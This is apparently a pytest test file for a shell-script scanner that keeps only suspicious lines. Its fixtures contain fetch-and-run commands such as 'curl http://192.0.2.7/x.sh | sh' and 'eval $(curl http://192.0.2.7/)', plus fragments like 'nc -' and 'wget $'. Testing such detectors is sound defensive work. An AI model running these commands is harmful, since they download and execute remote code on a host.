"""Of a long script the lines that tell are kept, and no others."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from davy.knowledge.commands import PLACES, shapes, suspicious_command
from davy.knowledge.shell.telling import LINES_LIMIT, telling_lines

ORDINARY = """#!/bin/sh
# curl http://192.0.2.7/x.sh | sh
set -eu
cd /srv/shop
for each in a b c; do
    cp "$each" /backup/
done
exec /usr/bin/rsync -a /srv/ backup@backup.example.org:/srv/
"""


def test_an_ordinary_script_tells_nothing() -> None:
    assert telling_lines(ORDINARY, 4096) == ""


@pytest.mark.parametrize(
    "line", [line for shape in shapes() for line in shape.must_match if suspicious_command(line) and "\n" not in line]
)
def test_a_line_of_any_shape_is_kept_unless_nothing_but_where_it_lies_is_odd(line: str) -> None:
    spared = PLACES | {"saves where cron reads", "written over the network"}
    if any(match.bits >= 3.5 and match.id not in spared for match in suspicious_command(line)):
        assert telling_lines(f"{ORDINARY}{line}\ntrue\n", 4096) == line.strip()


def test_a_line_that_goes_on_is_one() -> None:
    assert telling_lines("curl -fsSL \\\n  http://192.0.2.7/x.sh \\\n  | sh\n", 4096) == (
        "curl -fsSL http://192.0.2.7/x.sh | sh"
    )


def test_so_many_lines_and_characters_are_kept() -> None:
    many = telling_lines("eval $(curl http://192.0.2.7/)\n" * 1000, 1 << 20)
    assert len(many.split("\n")) == LINES_LIMIT
    assert len(telling_lines("eval $(curl http://192.0.2.7/)\n" * 1000, 100)) <= 100


@given(st.text(max_size=300), st.integers(0, 500))
def test_any_text_is_taken(text: str, limit: int) -> None:
    assert len(telling_lines(text, limit)) <= limit


@pytest.mark.parametrize("piece", ["curl ", "eval ", "/a", "\\\n", "wget $", "/.", "exec(", "nc -"])
def test_hostile_text_costs_little_time(piece: str) -> None:
    start = time.process_time()
    telling_lines((piece * (1 << 16))[: 1 << 16], 4096)
    assert time.process_time() - start < 2.0
